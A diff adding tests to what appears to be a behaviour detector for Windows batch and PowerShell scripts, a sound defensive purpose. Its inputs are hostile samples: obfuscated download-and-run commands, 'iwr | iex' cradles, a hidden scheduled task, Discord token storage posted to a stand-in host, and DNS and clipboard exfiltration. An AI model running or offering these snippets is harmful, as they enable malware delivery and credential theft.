@@ -66,3 +66,35 @@ describe('Windows', () => {
     ['wmic process call create "calc.exe"', ['spawn wmic wmic process call create calc.exe']],
   ])('%s', (line, expected) => expect(linesOf(line)).toEqual(expect.arrayContaining(expected)))
 })
+
+const script = (path: string, rows: readonly string[]): string[] => {
+  const text = rows.join('\r\n')
+  const desk = new FakeDesk()
+  desk.shell(text, { source: { path, text, anchor: null }, from: 0, to: text.length })
+  return desk.lines
+}
+
+describe('scripts of Windows', () => {
+  it.each<[string, string[], string[]]>([
+    ['fetches and starts', ['@echo off', 'rem curl https://no.example', ':: curl https://no.example', 'set "U=https://a.example/x.exe"', 'curl -s -o "%TEMP%\\x.exe" %U% >nul 2>&1', 'if exist "%TEMP%\\x.exe" (', '  start "" /b "%TEMP%\\x.exe"', ') else goto end', ':end', 'exit /b 0'],
+      ['fetch curl https://a.example/x.exe', 'write<fetched> curl %TEMP%\\x.exe', 'spawn<fetched> x %TEMP%\\x.exe']],
+    ['carets', ['c^u^r^l https://a.example/x.bat -o x.bat', 'c^all x.bat'], ['fetch curl https://a.example/x.bat', 'write<fetched> curl x.bat', 'spawn<fetched> x x.bat']],
+    ['pieces of variables', ['set k=zlrucz', 'set a=%k:~4,1%%k:~3,1%%k:~2,1%%k:~1,1%', '%a% https://a.example -o a.exe', 'a.exe'], ['fetch curl https://a.example', 'write<fetched> curl a.exe', 'spawn<fetched> a a.exe']],
+    ['replaced text', ['set k=XcXuXrXlX', '%k:X=% https://a.example -o a.exe', 'a.exe'], ['fetch curl https://a.example', 'write<fetched> curl a.exe', 'spawn<fetched> a a.exe']],
+    ['late variables', ['setlocal enabledelayedexpansion', 'set u=https://a.example', 'powershell -c "iwr !u! | iex"'], ['execute powershell iwr https://a.example | iex', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
+    ['output of a command', ["for /f \"delims=\" %%i in ('hostname') do set h=%%i", 'curl https://a.example/%h%'], ['collect<host> hostname hostname', 'fetch curl https://a.example/…', 'send<host> curl https://a.example/…']],
+    ['a script that is written first', ['echo iwr https://a.example ^| iex > %TEMP%\\a.ps1', 'powershell -ep bypass -f %TEMP%\\a.ps1'], ['spawn powershell powershell -ep bypass -f %TEMP%\\a.ps1', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
+  ])('batch: %s', (_name, rows, expected) => expect(script('a.bat', rows)).toEqual(expected))
+
+  it.each<[string, string[], string[]]>([
+    ['parameters', ['function Get-It {', '  param([string]$Url, $Path)', '  Invoke-WebRequest -Uri $Url -OutFile $Path', '}', 'Get-It "https://a.example/x" "$env:TEMP\\x.exe"', '& "$env:TEMP\\x.exe"'], ['fetch invoke-webrequest https://a.example/x', 'write<fetched> invoke-webrequest %TEMP%\\x.exe', 'spawn<fetched> x %TEMP%\\x.exe']],
+    ['comments', ['<# iwr https://no.example | iex #>', '# iwr https://no.example | iex', "Write-Host 'iwr https://no.example | iex'"], []],
+    ['here-strings', ["$c = @'", 'iwr https://a.example | iex', "'@", 'iex $c'], ['execute iex iwr https://a.example | iex', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
+    ['characters', ["$n = 105,119,114 | ForEach-Object { [char]$_ }", "$c = ($n -join '') + ' https://a.example'", 'Invoke-Expression $c'], ['execute invoke-expression iwr https://a.example', 'fetch iwr https://a.example']],
+    ['formats and replacing', ["$x = '{2}{0}{1}' -f 'w','r','i'", "$u = 'hXXps://a.example'.Replace('XX','tt')", '& $x $u | iex'], ['fetch iwr https://a.example', 'execute<fetched> iex …']],
+    ['scheduled tasks', ["$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -c iex(irm https://a.example)'", 'Register-ScheduledTask -TaskName Upd -Action $a'], ['execute powershell iex(irm https://a.example)', 'fetch irm https://a.example', 'execute<fetched> iex …', 'write<fetched> register-scheduledtask C:\\Windows\\System32\\Tasks\\Upd']],
+    ['files that leave', ['$d = [IO.File]::ReadAllText("$env:APPDATA\\discord\\Local Storage\\leveldb\\1.ldb")', 'Invoke-RestMethod https://a.example -Method Post -Body $d'], ['collect<messenger> [IO.File]::ReadAllText %APPDATA%\\discord\\Local Storage\\leveldb\\1.ldb', 'fetch invoke-restmethod https://a.example', 'send<messenger> invoke-restmethod https://a.example']],
+    ['names that leave', ['Resolve-DnsName "$env:USERNAME.x.example"'], ['collect<host> [Environment] username', 'resolve resolve-dnsname ….x.example', 'send<host> resolve-dnsname ….x.example']],
+    ['the clipboard', ['Add-Type -AssemblyName System.Windows.Forms', '[System.Windows.Forms.Clipboard]::GetText() | Out-File c.txt'], ['spawn add-type Add-Type -AssemblyName System.Windows.Forms', 'collect<clipboard> [System.Windows.Forms.Clipboard]::GetText GetText', 'write<clipboard> out-file c.txt']],
+  ])('PowerShell: %s', (_name, rows, expected) => expect(script('a.ps1', rows)).toEqual(expected))
+})
